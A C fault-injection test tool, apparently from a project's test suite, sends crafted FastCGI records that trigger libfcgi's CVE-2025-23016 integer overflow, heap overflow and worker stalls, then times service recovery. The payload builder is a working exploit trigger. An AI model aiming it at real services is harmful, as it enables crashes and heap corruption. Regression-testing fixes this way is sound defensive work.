/*
 * t/fault/fcgi-crafted: sends crafted FastCGI requests to a program's unix
 * socket, as a local process that can reach the socket would (issue 11,
 * case 2; CVE-2025-23016). Each request is a BEGIN_REQUEST record and a
 * PARAMS record whose first name-value pair announces lengths in the
 * four-byte form, on a connection of its own.
 *
 * libfcgi's ReadParams() adds the two announced lengths and 2 in an int
 * and mallocs that. The kinds:
 *   halffix   both lengths 0x7ffffffe. Below INT_MAX, so they pass the
 *             first fix (the one in Debian's 2.4.2-2+deb12u1); the int sum
 *             overflows to -2, malloc((size_t)-2) fails and libfcgi's
 *             ASSERT aborts the process (so do upstream's 2.4.5 and
 *             2.4.6). The full fix (2.4.7) adds in size_t, mallocs 4 GiB
 *             and refuses the record when the stream ends short.
 *   original  both lengths 0x7fffffff: the sum wraps to 0, a tiny block,
 *             then the name is read over its end (the heap overflow of the
 *             CVE). The first fix refuses these lengths.
 *   stall     a 4096-byte name of which only a few bytes are sent, then
 *             nothing: the worker waits in read() (no fix helps here).
 *
 * Each but a stall ends its side of the stream after the record, then
 * waits until the program closes the connection
 * (a worker that died, or libfcgi refusing the record) or -w ms pass, and
 * prints one line per request and a summary:
 *   record N closed|answered|open|refused MS
 *   sent N closed N answered N open N refused N last EPOCH
 * where "last" is when the last request's connection ended (epoch seconds),
 * the moment from which the test times the recovery.
 *
 *   fcgi-crafted [-k kind] [-n count] [-d seconds] [-i min-max ms] [-w ms] SOCKET
 */
#include "config.h"

#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>

#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum kind {
	KIND_HALFFIX,
	KIND_ORIGINAL,
	KIND_STALL,
	KIND__MAX
};

static const char *const kinds[KIND__MAX] = { "halffix", "original", "stall" };

enum outcome {
	OUT_CLOSED,	/* the program closed the connection without a word */
	OUT_ANSWERED,	/* it sent something back */
	OUT_OPEN,	/* still open after the wait */
	OUT_REFUSED,	/* no connection */
	OUT__MAX
};

static const char *const outcomes[OUT__MAX] = {
	"closed", "answered", "open", "refused"
};

static double
now(void)
{
	struct timespec	ts;

	clock_gettime(CLOCK_REALTIME, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* A FastCGI record header (FastCGI 1.0 spec, section 3.3). */
static size_t
header(unsigned char *p, int type, size_t len)
{
	p[0] = 1;			/* FCGI_VERSION_1 */
	p[1] = (unsigned char)type;
	p[2] = 0;			/* request id 1 */
	p[3] = 1;
	p[4] = (unsigned char)(len >> 8);
	p[5] = (unsigned char)len;
	p[6] = 0;			/* no padding */
	p[7] = 0;
	return 8;
}

/* A four-byte length: the high bit says "four bytes", 31 bits remain. */
static size_t
len4(unsigned char *p, unsigned long v)
{
	p[0] = (unsigned char)(0x80 | ((v >> 24) & 0x7f));
	p[1] = (unsigned char)(v >> 16);
	p[2] = (unsigned char)(v >> 8);
	p[3] = (unsigned char)v;
	return 4;
}

/* The bytes of one crafted request into buf; their count. */
static size_t
build(enum kind k, unsigned char *buf, size_t size)
{
	unsigned char	 params[1024];
	size_t		 n = 0, pn = 0, fill;

	/* BEGIN_REQUEST: role RESPONDER, no keep-alive. */
	n += header(buf + n, 1, 8);
	memset(buf + n, 0, 8);
	buf[n + 1] = 1;
	n += 8;

	switch (k) {
	case KIND_HALFFIX:
		pn += len4(params + pn, 0x7ffffffeUL);
		pn += len4(params + pn, 0x7ffffffeUL);
		fill = 64;
		break;
	case KIND_ORIGINAL:
		pn += len4(params + pn, 0x7fffffffUL);
		pn += len4(params + pn, 0x7fffffffUL);
		fill = 900;	/* written past the end of a tiny block */
		break;
	default:
		pn += len4(params + pn, 4096);
		params[pn++] = 0;
		fill = 8;
		break;
	}
	memset(params + pn, 'A', fill);
	pn += fill;
	if (n + 8 + pn > size)
		return 0;
	n += header(buf + n, 4, pn);	/* FCGI_PARAMS */
	memcpy(buf + n, params, pn);
	return n + pn;
}

static int
dial(const char *path)
{
	struct sockaddr_un	sun;
	int			fd;

	memset(&sun, 0, sizeof(sun));
	sun.sun_family = AF_UNIX;
	if (strlen(path) >= sizeof(sun.sun_path)) {
		errno = ENAMETOOLONG;
		return -1;
	}
	strcpy(sun.sun_path, path);
	if ((fd = socket(AF_UNIX, SOCK_STREAM, 0)) == -1)
		return -1;
	if (connect(fd, (struct sockaddr *)&sun, sizeof(sun)) == -1) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Send one request and wait up to wait_ms for the connection's end. */
static enum outcome
one(const char *path, const unsigned char *req, size_t len, int stall,
    int wait_ms, double *ended)
{
	struct pollfd	 pfd;
	char		 buf[512];
	double		 deadline;
	ssize_t		 r;
	size_t		 off = 0;
	int		 fd, left;
	enum outcome	 out = OUT_OPEN;

	*ended = now();
	if ((fd = dial(path)) == -1)
		return OUT_REFUSED;
	while (off < len) {
		if ((r = write(fd, req + off, len - off)) <= 0)
			break;	/* the worker may die before all of it is read */
		off += (size_t)r;
	}
	if (!stall)
		shutdown(fd, SHUT_WR);
	deadline = now() + wait_ms / 1000.0;
	for (;;) {
		left = (int)((deadline - now()) * 1000);
		if (left <= 0)
			break;
		pfd.fd = fd;
		pfd.events = POLLIN;
		if (poll(&pfd, 1, left) <= 0)
			continue;
		r = read(fd, buf, sizeof(buf));
		if (r > 0) {
			out = OUT_ANSWERED;
			continue;
		}
		if (r == 0 || errno != EINTR) {
			if (out != OUT_ANSWERED)
				out = OUT_CLOSED;
			break;
		}
	}
	*ended = now();
	close(fd);
	return out;
}

static void
usage(void)
{
	fprintf(stderr, "usage: fcgi-crafted [-k halffix|original|stall] "
	    "[-n count] [-d seconds] [-i min-max ms] [-w ms] SOCKET\n");
}

int
main(int argc, char *argv[])
{
	unsigned char	 req[2048];
	unsigned long	 count = 1, sent = 0, n[OUT__MAX] = { 0 };
	double		 dur = 0, start, ended, last = 0, t0;
	size_t		 len;
	int		 c, imin = 0, imax = 0, wait_ms = 3000, i;
	enum kind	 k = KIND_HALFFIX;
	enum outcome	 out;

	while ((c = getopt(argc, argv, "k:n:d:i:w:")) != -1)
		switch (c) {
		case 'k':
			for (i = 0; i < KIND__MAX; i++)
				if (strcmp(optarg, kinds[i]) == 0)
					break;
			if (i == KIND__MAX) {
				usage();
				return 2;
			}
			k = (enum kind)i;
			break;
		case 'n':
			count = strtoul(optarg, NULL, 10);
			break;
		case 'd':
			dur = strtod(optarg, NULL);
			count = 0;
			break;
		case 'i':
			if (sscanf(optarg, "%d-%d", &imin, &imax) != 2)
				imax = imin = atoi(optarg);
			if (imin < 0 || imax < imin) {
				usage();
				return 2;
			}
			break;
		case 'w':
			wait_ms = atoi(optarg);
			break;
		default:
			usage();
			return 2;
		}
	if (argc - optind != 1) {
		usage();
		return 2;
	}
	signal(SIGPIPE, SIG_IGN);
	if ((len = build(k, req, sizeof(req))) == 0)
		return 2;
	srand((unsigned int)getpid());
	start = now();
	while (count > 0 ? sent < count : now() - start < dur) {
		if (sent > 0 && imax > 0)
			usleep((useconds_t)(imin + (imax > imin ?
			    rand() % (imax - imin + 1) : 0)) * 1000);
		t0 = now();
		out = one(argv[optind], req, len, k == KIND_STALL, wait_ms, &ended);
		n[out]++;
		sent++;
		last = ended;
		printf("record %lu %s %.0f\n", sent, outcomes[out],
		    (ended - t0) * 1000);
		fflush(stdout);
	}
	printf("sent %lu closed %lu answered %lu open %lu refused %lu last %.3f\n",
	    sent, n[OUT_CLOSED], n[OUT_ANSWERED], n[OUT_OPEN], n[OUT_REFUSED],
	    last);
	return 0;
}
